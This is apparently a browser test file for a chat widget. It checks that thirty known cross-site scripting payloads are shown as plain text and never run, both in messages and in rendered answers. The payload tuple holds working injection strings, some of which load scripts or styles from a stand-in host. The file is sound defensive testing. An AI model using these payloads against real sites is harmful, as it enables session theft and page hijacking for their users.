"""Thirty ways to smuggle a script into a page: each stays the text that it is."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

from bot.channels.markup import blocks_html
from bot.models import Listing, Paragraph, Run
from tests.browser.conftest import browser, opened  # noqa: F401  fixtures
from tests.browser.widgets import ask, card, open_chat, part

if TYPE_CHECKING:
    from tests.browser.conftest import Opening

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>here</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=javascript:alert(1)>",
    "<form action=//evil.example/><button>go</button></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "</li></ol><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "[here](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
)
"""As they are known from public lists of them."""


@pytest.mark.asyncio(loop_scope="module")
async def test_what_a_patient_writes(opened: Opening) -> None:  # noqa: F811  the fixture
    """Nothing in a message runs, loads or becomes part of the page, now or after coming back."""
    dialogs: list[str] = []
    async with opened() as page:
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        title = await page.title()
        await open_chat(page)
        for at in range(0, len(PAYLOADS), 6):
            await ask(page, "\n".join(PAYLOADS[at : at + 6]))
            await expect(card(page, at // 6 + 1)).to_be_visible()
        await page.reload()
        await expect(part(page, "card")).not_to_have_count(0)
        shown = " ".join(await part(page, "bubble").all_text_contents())
        foreign = page.locator(
            ":is([part=bubble], [part=card]) :is(script, img, svg, iframe, form)"
        )
        await expect(foreign).to_have_count(0)
        assert await page.title() == title
    assert dialogs == []
    assert [payload for payload in PAYLOADS if payload.strip() not in shown] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_stands_in_an_answer(payload: str) -> None:
    """Even in an answer, which is checked before, none of it would be markup."""
    runs = (Run(payload), Run(payload, strong=True), Run("here", href=payload))
    html = blocks_html((Paragraph(runs), Listing((runs,))))
    bare = html.replace("<p>", "").replace("</p>", "").replace("<ul>", "").replace("</ul>", "")
    bare = bare.replace("<li>", "").replace("</li>", "")
    bare = bare.replace("<strong>", "").replace("</strong>", "")
    assert "<" not in bare
    assert "href" not in html or "href" in payload
